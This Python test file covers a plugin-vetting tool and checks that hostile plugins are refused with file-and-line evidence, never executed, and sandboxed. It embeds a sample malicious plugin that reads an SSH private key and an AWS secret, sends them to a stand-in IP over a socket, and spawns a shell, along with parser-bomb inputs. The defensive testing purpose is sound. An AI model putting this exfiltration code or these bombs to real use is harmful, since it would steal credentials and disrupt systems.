"""Hostile plugins: refused with evidence, within bounds, and never run while they are looked at."""

import time
from pathlib import Path

import pytest
from common.plugin_wheels import HONEST, PACKAGE, plugin_wheel
from envcli_vetting import CheckError, Outcome, Verdict, run_checks
from envcli_vetting.process import run_tool

GREEDY = """
import os
import socket
import subprocess
from pathlib import Path


class Sample:
    def execute(self, command):
        key = (Path.home() / ".ssh" / "id_rsa").read_text()
        token = os.environ["AWS_SECRET_ACCESS_KEY"]
        with socket.create_connection(("203.0.113.9", 443)) as line:
            line.sendall((key + token).encode())
        subprocess.run(["/bin/sh", "-c", "id"])
"""


def test_the_greedy_plugin_is_refused_with_file_and_line(tmp_path: Path) -> None:
    report = run_checks([plugin_wheel(tmp_path, GREEDY)])
    places = {one.evidence.split()[2].rstrip(","): one.line for one in report.observations
              if one.rule == "permission-undeclared"}  # fmt: skip
    assert report.verdict is Verdict.FAILED
    assert places == {"file:read": 10, "variable:read": 11, "network:connect": 12, "process:spawn": 14}
    assert {"secret-place"} <= {one.rule for one in report.observations}
    assert report.statements()[0].predicate["result"] == "FAILED"


def test_code_is_never_imported_or_run(tmp_path: Path) -> None:
    mark = tmp_path / "it-ran"
    act = f"open({str(mark)!r}, 'w').close()\n"
    extra = {f"{PACKAGE}/__init__.py": act.encode(), f"{PACKAGE}/conftest.py": act.encode(),
             f"{PACKAGE}/setup.py": act.encode(), "conftest.py": act.encode()}  # fmt: skip
    run_checks([plugin_wheel(tmp_path, act + HONEST, extra=extra)])
    assert not mark.exists()


@pytest.mark.parametrize(
    "source",
    [
        "x = " + "[" * 3000 + "]" * 3000,
        "x = " + "-" * 500_000 + "1",
        "x = " + "+".join(["1"] * 100_000),
        "x = a" + ".b" * 100_000,
        "x = f" + "(1)" * 20_000,
        "x = " + "lambda: " * 5_000 + "1",
        "#" * (2 << 20),
        "a = 1\n" * 150_000,
    ],
    ids=["brackets", "minus", "plus", "attributes", "calls", "lambdas", "comment", "lines"],
)
def test_bombs_for_parsers_end_in_time_and_never_pass(tmp_path: Path, source: str) -> None:
    begun = time.monotonic()
    report = run_checks([plugin_wheel(tmp_path, source)], only=("archive", "capability"))
    capability = next(one for one in report.results if one.check == "capability")
    assert capability.outcome is not Outcome.PASS
    assert report.verdict in {Verdict.FAILED, Verdict.INCONCLUSIVE}
    assert time.monotonic() - begun < 60


def test_a_tool_that_hangs_swells_or_babbles_is_ended(tmp_path: Path) -> None:
    with pytest.raises(CheckError, match="longer"):
        run_tool(["-c", "import time; time.sleep(60)"], tmp_path, 0.5)
    limited = "from envcli_vetting.process import limit_resources; limit_resources(1);"
    done = run_tool(["-c", f"{limited} x = bytearray(3 << 30)"], tmp_path, 30)
    assert (done.status, done.message) == (1, "MemoryError")
    with pytest.raises(CheckError, match="ended by"):
        run_tool(["-c", f"{limited} import os; os.kill(os.getpid(), 9)"], tmp_path, 30)
    with pytest.raises(CheckError, match="printed more"):
        run_tool(["-c", "import sys; sys.stdout.write('x' * (17 << 20))"], tmp_path, 30)


def test_a_tool_leaves_no_process_behind(tmp_path: Path) -> None:
    mark = tmp_path / "survivor"
    late = f"import time, pathlib; time.sleep(1); pathlib.Path({str(mark)!r}).touch()"
    run_tool(
        ["-c", f"import subprocess, sys; subprocess.Popen([sys.executable, '-c', {late!r}])"], tmp_path, 30
    )
    time.sleep(1.5)
    assert not mark.exists()


def test_a_tool_sees_nothing_of_the_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PIP_INDEX_URL", "https://user:secret@example.org/simple")
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    done = run_tool(["-c", "import os, sys; print(sorted(os.environ), sys.path)"], tmp_path, 30)
    assert b"PIP_INDEX_URL" not in done.stdout
    assert str(tmp_path).encode() not in done.stdout
